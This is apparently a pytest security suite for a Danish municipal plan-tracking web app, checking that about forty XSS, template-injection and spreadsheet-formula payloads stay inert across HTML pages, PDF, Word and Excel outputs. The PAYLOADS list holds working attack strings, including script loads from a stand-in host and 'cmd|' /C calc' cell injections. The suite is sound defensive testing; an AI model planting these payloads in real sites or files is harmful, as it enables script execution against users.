"""The XSS payload set through every input into every output.

Inputs: the plan's text format, Word and Excel imports (one payload per initiative, in the
round-1 milestone or the description), rating comments through the API and the web form,
economy revisions, public comments. Outputs: internal pages, public pages, the PDF's text,
the Word document's XML and the workbook's cells.

Every payload must be inert (no script element we did not write, no event attribute, no
script URL, no formula in a cell) and, where the input is plain text, kept intact as text.
Each (payload, input, output) is one attempt of the suite."""

import html
import io
import re
import subprocess
import zipfile
from html.parser import HTMLParser

import openpyxl
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from milepael.exchange.formats import import_upload
from milepael.exchange.plan_import import import_plan_file
from milepael.exchange.uploads import check_upload
from milepael.exchange.xlsx_plan import export_plan_xlsx
from milepael.followup import services
from milepael.plans.models import FollowUpRound, ImplementationPlan
from milepael.public import services as public_services
from tests.api.conftest import token_client
from tests.conftest import PLAN_SEED
from tests.exchange.seed_docx import seed_as_docx
from tests.security.tally import attempt

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//angriber.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '<a href="javascript:alert(5)">klik</a>',
    '<a href="JaVaScRiPt:alert(6)">klik</a>',
    '<a href="&#106;avascript:alert(7)">klik</a>',
    '<a href="java&#x09;script:alert(8)">klik</a>',
    '<iframe src="javascript:alert(9)"></iframe>',
    "<body onload=alert(10)>",
    '<div style="background:url(javascript:alert(11))">x</div>',
    '<div style="width:expression(alert(12))">x</div>',
    "<style>@import 'http://angriber.example/x.css';</style>",
    '"><script>alert(13)</script>',
    "'><img src=x onerror=alert(14)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "<details open ontoggle=alert(16)>",
    "<input autofocus onfocus=alert(17)>",
    '<object data="javascript:alert(18)"></object>',
    '<embed src="javascript:alert(19)">',
    '<form action="javascript:alert(20)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(21)">',
    '<base href="javascript:alert(22)//">',
    "&lt;script&gt;alert(23)&lt;/script&gt;",
    "&#60;script&#62;alert(24)&#60;/script&#62;",
    "<scr<script>ipt>alert(25)</scr</script>ipt>",
    "<!--<script>alert(26)</script>-->",
    "<![CDATA[<script>alert(27)</script>]]>",
    "&#xFF1C;script&#xFF1E;alert(28)&#xFF1C;/script&#xFF1E;",  # fullwidth < > as entities (see the xfail below)
    "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=">klik</a>',
    "{{ 7*7 }} {% debug %}",
    '#eval("1") #panic("31") ]] #include "/etc/passwd"',
    '=HYPERLINK("javascript:alert(32)";"klik")',
    '<noscript><p title="</noscript><img src=x onerror=alert(33)>">',
    '<a href="vbscript:msgbox(34)">klik</a>',
    "\u202e<script>alert(35)</script>",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
assert len(PAYLOADS) >= 30

SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data:text/html)", re.IGNORECASE)
ACTIVE_TAGS = {"iframe", "object", "embed", "base", "meta", "style", "form", "input", "math", "svg", "noscript"}


class _Live(HTMLParser):
    """Collects what would be live in a browser: script elements, event attributes, script
    URLs, inline styles and elements our templates never write."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.problems.append(f"<script {attributes}>")
        ours = tag in {"form", "input", "meta"} and not _hostile(attributes)
        ours = ours or (tag == "svg" and "mp-" in (attributes.get("class") or ""))  # the smiley faces
        if tag in ACTIVE_TAGS and not ours:
            self.problems.append(f"<{tag} {attributes}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in {"href", "src", "action", "data", "formaction", "content"} and SCRIPT_URL.match(value or ""):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                self.problems.append(f"<{tag} style=…>")


def _hostile(attributes: dict) -> bool:
    return any(SCRIPT_URL.match(value or "") or "url=" in (value or "") for value in attributes.values())


def live_content(page: str) -> list[str]:
    parser = _Live()
    parser.feed(page)
    return parser.problems


def check_html(label: str, page: str, payloads: list[str], plain_text: bool = False) -> None:
    """Each payload inert in `page` (and, for a plain-text input, shown as its own text)."""
    problems = live_content(page)
    text = html.unescape(page)
    for payload in payloads:
        kept = not plain_text or payload in text
        assert attempt(not problems and kept), (label, payload, problems[:3])


def pdf_text(data: bytes) -> str:
    text = subprocess.run(["pdftotext", "-raw", "-", "-"], input=data, capture_output=True, check=True).stdout
    return "".join(text.decode().split())


def check_pdf(label: str, data: bytes, payloads: list[str], plain_text: bool = False) -> None:
    active = [marker for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction") if marker in data]
    text = pdf_text(data) if plain_text else ""
    for payload in payloads:
        kept = not plain_text or "".join(payload.split()) in text
        assert attempt(not active and kept), (label, payload, active)


def check_docx(label: str, data: bytes, payloads: list[str], plain_text: bool = False) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = "".join(package.read(name).decode() for name in package.namelist() if name.endswith((".xml", ".rels")))
    # Live parts of a Word document: a link target with a script URL, a field (DDE, INCLUDETEXT,
    # HYPERLINK). The only fields we write are the footer's page numbers.
    tags = re.findall(r"<[^>]+>", xml)  # text is escaped (&lt;), so a payload's text is never a tag
    problems = [tag for tag in tags if re.search(r'="\s*(?:javascript|vbscript):', tag, flags=re.IGNORECASE)]
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml)
    instructions += re.findall(r'<w:fldSimple[^>]*w:instr="([^"]*)"', xml)
    problems += [field for field in instructions if field.strip() not in ("PAGE", "NUMPAGES")]
    if xml.count("<w:instrText") != len(re.findall(r"<w:instrText[^>]*>[^<]*</w:instrText>", xml)):
        problems.append("<w:instrText> that is not plain text")
    text = html.unescape(re.sub(r"<[^>]+>", "", xml))
    for payload in payloads:
        kept = not plain_text or payload in text
        assert attempt(not problems and kept), (label, payload, problems)


def check_xlsx(label: str, data: bytes, payloads: list[str], plain_text: bool = True) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = "\n".join(str(cell.value) for cell in cells)
    for payload in payloads:
        kept = not plain_text or payload in values
        assert attempt(not formulas and kept), (label, payload, formulas[:3])


# --- The plan's own text, through the three import formats ------------------------------------


def seed_text_with_payloads() -> str:
    """Seed 000 with payload i as the round-1 milestone of initiative i (and round 2 beyond 35)."""
    lines = PLAN_SEED.read_text(encoding="utf-8").split("\n")
    slots = [
        index
        for round_name in ("1. budgetopfølgning 2018", "2. budgetopfølgning 2018")
        for index, line in enumerate(lines)
        if line.startswith("Milepæl\t") and line.split("\t")[2:3] == [round_name]
    ]
    for payload, index in zip(PAYLOADS, slots, strict=False):
        name, _text, *rest = lines[index].split("\t")
        lines[index] = "\t".join([name, payload, *rest])
    return "\n".join(lines)


def internal_outputs(client, plan: ImplementationPlan, label: str, *, plain_text: bool = False) -> None:
    """Every internal output of the plan: pages, the report in every format, the workbook."""
    pages = [plan.get_absolute_url(), reverse("followup:plan_smileys", args=[plan.pk])]
    pages += [initiative.get_absolute_url() for initiative in plan.initiatives.all()]
    pages.append(reverse("reports:plan_report", args=[plan.pk, "html"]))
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        check_html(f"{label} → {url}", response.content.decode(), PAYLOADS, plain_text=False)
    report = lambda fmt: client.get(reverse("reports:plan_report", args=[plan.pk, fmt])).content  # noqa: E731
    check_pdf(f"{label} → PDF", report("pdf"), PAYLOADS)
    check_docx(f"{label} → DOCX", report("docx"), PAYLOADS)
    check_xlsx(f"{label} → XLSX report", report("xlsx"), PAYLOADS, plain_text=False)
    check_xlsx(f"{label} → plan workbook", export_plan_xlsx(plan), PAYLOADS, plain_text=False)


def test_payloads_in_the_plan_text_format(reader_client):
    plan = import_plan_file(seed_text_with_payloads().encode()).plan
    internal_outputs(reader_client, plan, "plan text")


def test_payloads_in_a_word_document(reader_client):
    upload = check_upload("plan.docx", seed_as_docx(seed_text_with_payloads()))
    plan = import_upload(upload).plan
    internal_outputs(reader_client, plan, "Word")


def test_payloads_in_an_excel_workbook(reader_client):
    plan = import_plan_file(PLAN_SEED.read_bytes()).plan
    workbook = openpyxl.load_workbook(io.BytesIO(export_plan_xlsx(plan)))
    replaced = 0
    for sheet in workbook:
        headings = [str(cell.value or "").lower() for cell in sheet[1]]
        if "beskrivelse" not in headings:
            continue
        column = headings.index("beskrivelse") + 1
        for row, payload in zip(range(2, sheet.max_row + 1), PAYLOADS, strict=False):
            sheet.cell(row=row, column=column).value = payload
            replaced += 1
    assert replaced >= 30
    data = io.BytesIO()
    workbook.save(data)
    plan = import_upload(check_upload("plan.xlsx", data.getvalue())).plan
    internal_outputs(reader_client, plan, "Excel")


# --- Plain-text inputs of the follow-up: comments, revisions, public comments ---------------


@pytest.fixture
def rated_and_published(seed_plan, administrator, client):
    """Round 1 opened; each initiative's rating saved with payload comments (even ones through
    the API, odd ones through the web form) and approved; an economy revision with a payload
    for the first initiatives; closed, published, with payload public comments."""
    round_1 = FollowUpRound.objects.get(agreement=seed_plan.agreement, ordinal=1)
    services.open_round(round_1, user=administrator, deadline=round_1.agreement.adopted_on)
    api = token_client(administrator)
    client.force_login(administrator)
    initiatives = list(seed_plan.initiatives.order_by("sort_key"))
    for index, initiative in enumerate(initiatives):
        payload = PAYLOADS[index % len(PAYLOADS)]
        milestone = services.milestone_for(initiative, round_1)
        effort = "none" if milestone is None or milestone.is_blank else "red"
        body = {
            "effort": effort,
            "effort_comment": payload if effort == "red" else "",
            "economy": "red",
            "economy_comment": payload,
            "alternative_financing": payload,
            "version": 0,
            "submit": True,
        }
        if index % 2 == 0:
            response = api.post(
                "/api/ratings/", {**body, "initiative": initiative.pk, "round": round_1.pk}, format="json"
            )
            assert response.status_code == 201, response.content
        else:
            form = {**body, "submit": "1"}
            response = client.post(reverse("followup:rate", args=[round_1.pk, initiative.pk]), form)
            assert response.status_code == 302, response.content.decode()[:500]
    for rating in round_1.ratings.all():
        services.approve_rating(rating, user=administrator, expected_version=rating.version)
    for index, initiative in enumerate(initiatives[:8]):
        response = client.post(
            reverse("followup:economy_revision", args=[initiative.pk]),
            {"text": PAYLOADS[index], "approved_on": "2018-03-01", "approval_reference": PAYLOADS[-index - 1]},
        )
        assert response.status_code == 302
    round_1 = services.close_round(round_1, user=administrator)
    public_services.publish_round(round_1, user=administrator)
    ratings = list(round_1.ratings.order_by("initiative__sort_key"))
    comments = {f"r{r.pk}-text": PAYLOADS[i % len(PAYLOADS)] for i, r in enumerate(ratings)}
    assert client.post(reverse("public:manage_comments", args=[round_1.pk]), comments).status_code == 302
    return seed_plan, round_1


def test_payloads_in_comments_revisions_and_public_comments(rated_and_published, reader_client):
    plan, round_1 = rated_and_published
    used = PAYLOADS[: min(len(PAYLOADS), plan.initiatives.count())]
    for initiative in plan.initiatives.all():
        response = reader_client.get(initiative.get_absolute_url())
        check_html(f"comments → initiative {initiative.number}", response.content.decode(), [], plain_text=True)
    report = lambda fmt: reader_client.get(reverse("reports:followup_report", args=[plan.pk, 1, fmt]))  # noqa: E731
    check_html("comments → follow-up report", report("html").content.decode(), used, plain_text=True)
    check_pdf("comments → PDF", report("pdf").content, used, plain_text=True)
    check_docx("comments → DOCX", report("docx").content, used, plain_text=True)
    check_xlsx("comments → XLSX report", report("xlsx").content, used, plain_text=True)
    workbook = reader_client.get(reverse("exchange:export_ratings_xlsx", args=[round_1.pk, plan.pk])).content
    check_xlsx("comments → ratings workbook", workbook, used, plain_text=True)
    smileys = reader_client.get(reverse("followup:plan_smileys", args=[plan.pk])).content.decode()
    check_html("comments → smiley matrix", smileys, used)


def test_payloads_in_public_comments_reach_citizens_inert(rated_and_published):
    plan, _round = rated_and_published
    citizen = APIClient()  # no session, as a citizen
    public_pages = [reverse("public:plan", args=[plan.pk])]
    public_pages += [reverse("public:initiative", args=[plan.pk, i.number]) for i in plan.initiatives.all()]
    seen = ""
    for url in public_pages:
        response = citizen.get(url)
        assert response.status_code == 200, url
        page = response.content.decode()
        check_html(f"public → {url}", page, [])
        seen += html.unescape(page)
    for payload in PAYLOADS[: plan.initiatives.count()]:
        assert attempt(payload in seen), payload  # shown as the text the administrator wrote


def test_a_character_the_report_font_lacks_does_not_break_the_pdf(reader_client):
    # Found by this suite: PDF/UA-1 made typst refuse a character no font has (a fullwidth ＜,
    # an emoji), and the PDF answered 500. Such a character is now drawn as its
    # compatibility form (＜ → <) or "?"; the PDF stays inert.
    text = PLAN_SEED.read_text(encoding="utf-8").replace(
        "Der er indgået entreprisekontrakter for de enkelte delopgaver.", "＜script＞alert(28)＜/script＞ 😀 中", 1
    )
    plan = import_plan_file(text.encode()).plan
    response = reader_client.get(reverse("reports:plan_report", args=[plan.pk, "pdf"]))
    assert response.status_code == 200
    check_pdf("a character the font lacks → PDF", response.content, ["<script>alert(28)</script>??"], plain_text=True)
